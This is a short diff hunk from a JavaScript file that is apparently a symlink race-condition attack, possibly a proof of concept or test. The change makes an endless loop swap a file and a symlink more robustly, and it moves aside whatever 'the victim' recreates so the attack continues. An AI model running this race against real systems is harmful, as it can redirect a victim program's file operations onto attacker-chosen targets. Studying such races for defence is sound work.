@@ -16,7 +16,7 @@ symlinkSync(target, link)
 console.log('ready')
 for (let round = 0; ; round += 1) {
   move(name, real)
-  move(link, name)
+  if (!move(link, name)) try { symlinkSync(target, link) } catch {}
   for (let spin = 0; spin < (round % 7) * 40; spin += 1);
   // What the victim has made anew meanwhile goes aside, so that the attack goes on.
   try { move(name, lstatSync(name).isSymbolicLink() ? link : name + '.aside' + round) } catch {}
